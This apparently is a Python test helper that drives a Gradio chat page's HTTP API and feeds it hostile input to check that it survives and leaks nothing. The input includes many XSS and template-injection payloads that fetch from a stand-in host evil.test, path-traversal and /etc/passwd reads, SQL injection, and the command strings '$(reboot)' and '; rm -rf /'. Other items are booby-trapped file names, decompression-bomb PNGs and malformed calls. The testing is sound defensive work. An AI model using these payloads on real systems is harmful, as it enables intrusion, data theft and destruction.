"""What people who mean no good send to the page, and a plain HTTP client that sends it: for tests and benchmarks."""

from __future__ import annotations

import io
import json
import random
import re
import secrets
import struct
import sys
import tempfile
import zlib
from dataclasses import dataclass
from pathlib import Path
from types import TracebackType
from typing import Any

import httpx

from tests import tiny

SECONDS = 60
SECRETS = (tempfile.gettempdir(), str(Path(__file__).resolve().parent.parent), sys.prefix, str(Path.home()),
           "site-packages", "Traceback", 'File "')
"""parts of an answer that only a server knows"""


@dataclass(frozen=True)
class Said:
    """What came back: the messages, the notice (or the sentence of a refusal), and everything as text."""

    messages: list[dict[str, Any]]
    notice: str
    status: int
    raw: str

    @property
    def answered(self) -> bool:
        return bool(self.messages) and self.messages[-1]["role"] == "assistant"

    @property
    def tells_a_secret(self) -> bool:
        """True where a sentence or message names a path of the server or a line of its program."""
        texts = [part.get("text", "") for message in self.messages if message["role"] == "assistant"
                 for part in message["content"]]
        return any(part in text for part in SECRETS for text in [self.notice, *texts])


class Talker:
    """One visitor without a browser.

    Args:
        address: of the page.
        stays: True = keeps a connection open as an open tab does; closing it is leaving.
    """

    def __init__(self, address: str, *, stays: bool = False) -> None:
        self.session = secrets.token_hex(6)
        self.http = httpx.Client(base_url=address.rstrip("/"), timeout=SECONDS, trust_env=False)
        self._tab = self.http.stream("GET", f"/gradio_api/heartbeat/{self.session}") if stays else None
        if self._tab is not None:
            self._tab.__enter__()

    def __enter__(self) -> Talker:
        return self

    def __exit__(self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
                 ) -> None:
        if self._tab is not None:
            self._tab.__exit__(kind, error, trace)
        self.http.close()

    def upload(self, *files: tuple[str, bytes]) -> list[str]:
        """Send files; returns where the page says they are."""
        answer = self.http.post("/gradio_api/upload", files=[("files", file) for file in files])
        answer.raise_for_status()
        return list(answer.json())

    def ask(self, text: str, paths: list[str] | None = None, *, tokens: float = 10, temperature: float = 0,
            beams: float = 1, language: str = "en") -> Said:
        """A question, as the page would ask it, and what is said at its end."""
        files = [{"path": path, "meta": {"_type": "gradio.FileData"}} for path in paths or []]
        return self.call("ask", [{"text": text, "files": files}, temperature, beams, tokens, language, *REST])

    def call(self, name: str, data: list[Any]) -> Said:
        """Any event of the page."""
        begun = self.http.post(f"/gradio_api/call/{name}",
                               content=json.dumps({"data": data, "session_hash": self.session}),
                               headers={"content-type": "application/json"})
        if begun.status_code != 200:
            return Said([], str(_json(begun).get("detail", begun.text)), begun.status_code, begun.text)
        event, last = "", "null"
        with self.http.stream("GET", f"/gradio_api/call/{name}/{begun.json()['event_id']}") as stream:
            for line in stream.iter_lines():
                if line.startswith("event: "):
                    event = line.removeprefix("event: ")
                elif line.startswith("data: ") and event in ("complete", "error"):
                    last = line.removeprefix("data: ")
        data = json.loads(last)
        if event == "error" or not isinstance(data, list):
            return Said([], str((data or {}).get("error") or "error"), 500, last)
        messages, notice = (*data, None, None)[:2]
        sentence = re.sub(r"</?p[^>]*>", "", notice) if isinstance(notice, str) else ""
        return Said(messages if isinstance(messages, list) else [], sentence, 200, last)


def _json(answer: httpx.Response) -> dict[str, Any]:
    try:
        value = answer.json()
    except ValueError:
        return {}
    return value if isinstance(value, dict) else {}


def png(width: int, height: int, rows: int | None = None) -> bytes:
    """A black PNG of any size, made row by row: half a megabyte can hold 13,000 x 13,000 pixels.

    Args:
        width, height: as its header says.
        rows: that it holds indeed; None = all.
    """
    packer = zlib.compressobj(9)
    row = bytes(1 + width * 3)
    packed = b"".join([*(packer.compress(row) for _ in range(height if rows is None else rows)), packer.flush()])

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def rose(seed: int = 1) -> bytes:
    """A small image of noise."""
    buffer = io.BytesIO()
    tiny.image(seed, size=64).save(buffer, "PNG")
    return buffer.getvalue()


HOST = "evil.test"
MARKUP = (
    "![]({url})", "[a link]({url})", "<{url}>", "{url}", "<img src={url}>", "<img src=x onerror=fetch('{url}')>",
    "<script>fetch('{url}')</script>", "<script src={url}></script>", "<iframe src={url}></iframe>",
    "<link rel=stylesheet href={url}>", "<style>@import '{url}';</style>", "<svg><image href={url} /></svg>",
    "<svg onload=fetch('{url}')>", "<video src={url} autoplay></video>", "<audio src={url} autoplay></audio>",
    "<object data={url}></object>", "<embed src={url}>", "<meta http-equiv=refresh content='0;url={url}'>",
    "<base href={url}>", "<form action={url}><input type=submit autofocus></form>", "<body background={url}>",
    "<div style=\"background:url({url})\">", "<a href=javascript:fetch('{url}')>x</a>", "<input type=image src={url}>",
    "<details open ontoggle=fetch('{url}')>x</details>", "![x][1]\n\n[1]: {url}", "$$\\includegraphics{{{url}}}$$",
    "```html\n<img src={url}>\n```", "| a |\n|---|\n| ![]({url}) |", "<picture><source srcset={url}><img></picture>",
    "{{{{constructor.constructor('fetch(`{url}`)')()}}}}", "${{fetch('{url}')}}",
    "<template><img src={url}></template>",
    "</span></div><img src={url}>", "<!--><img src={url}>-->", "<math href={url}>x</math>",
)
ODD = (
    "\x00" * 4000, "\x1b[2J\x1b]0;x\x07" * 500, "\u202e" * 3000, "\u0301" * 5000, "\ud800 half a pair",
    "\r\n" * 5000, "\t" * 5000, "a" * 1_000_000, "你" * 30_000, " " * 100_000 + "x", "🌹" * 6000, "<" * 20_000,
    "[" * 20_000, "#" * 20_000, "../../../../etc/passwd", "file:///etc/passwd", "<ImageHere> what", "###", "</s>",
    "{}", "%s%n%x", "' OR 1=1 --", "$(reboot)", "; rm -rf /", "\N{ZERO WIDTH JOINER}" * 5000,
)
NAMES = ("a.png", "../../x.png", "![](http://evil.test/x).png", "<img src=x onerror=alert(1)>.png", "x\x00.png",
         "你好.png", "a" * 180 + ".png", "%2e%2e%2fx.png", "x.svg", "con.png")


def questions(seed: int = 0) -> list[str]:
    """Payloads for the box of the page, in an order of the seed: markup that could make a browser call, odd text."""
    chosen = [pattern.format(url=f"http://{HOST}/{number}") for number, pattern in enumerate(MARKUP)] + list(ODD)
    random.Random(seed).shuffle(chosen)
    return chosen


def files(seed: int = 0) -> list[tuple[str, bytes]]:
    """Files that are not what they say, under names that mean more than a name."""
    chance = random.Random(seed)
    whole = rose()
    contents = [whole, whole[: len(whole) // 2], b"", b"<html>no</html>", png(60_000, 60_000, rows=0),
                png(13_000, 13_000, rows=0), chance.randbytes(2000), b"<svg xmlns='http://www.w3.org/2000/svg'/>",
                b"GIF89a" + chance.randbytes(50), b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n"]
    return [(name, content) for name, content in zip(NAMES, contents, strict=True)]


REST = (0.9, "", "")
"""top-p, seed and system text, as the page sends them"""
BAD_CALLS: tuple[tuple[str, list[Any]], ...] = (
    ("ask", []), ("ask", [None, 0, 1, 10, "en", *REST]), ("ask", ["text", 0, 1, 10, "en", *REST]),
    ("ask", [{"text": "x", "files": [{"path": "/etc/passwd"}]}, 0, 1, 10, "en", *REST]),
    ("ask", [{"text": "x", "files": [{"path": "http://evil.test/x.png"}]}, 0, 1, 10, "en", *REST]),
    ("ask", [{"text": "x", "files": [{"path": "../../etc/passwd"}]}, 0, 1, 10, "en", *REST]),
    ("ask", [{"text": "x"}, 0, 1e9, 10, "en", *REST]), ("ask", [{"text": "x"}, -1, 1, 10, "en", *REST]),
    ("ask", [{"text": "x", "files": []}, 0, 1, 1e12, "en", *REST]),
    ("ask", [{"text": "x", "files": []}, "a", 1, 10, "en", *REST]),
    ("ask", [{"text": "x", "files": []}, 0, 1, 10, "../xx", *REST]),
    ("ask", [{"text": 3, "files": 4}, 0, 1, 10, "en", *REST]),
    ("ask", [{"text": "x"}, 1, 1, 10, "en", 7, "", ""]), ("ask", [{"text": "x"}, 1, 1, 10, "en", 0.9, "-1", ""]),
    ("ask", [{"text": "x"}, 1, 1, 10, "en", 0.9, "9" * 5000, ""]),
    ("ask", [{"text": "x"}, 0, 1, 10, "en", 0.9, "", "y" * 5000]),
    ("retry", [0, 1, 10, "en", *REST]), ("retry", []), ("no_such", []), ("clear", [1, 2, 3]), ("edit", ["../xx"]),
    ("delete", ["en"]), ("ask_example", [-1, 0, 1, 10, "en", *REST]), ("ask_example", [1e99, 0, 1, 10, "en", *REST]),
    ("arrive", ["0" * 64, "en"]), ("arrive", [None, "xx"]), ("messages", ["xx"]),
)
"""events with arguments that no page sends"""
SILENT = ("clear", "arrive", "messages", "ask_example")
"""events that may be answered without a word"""
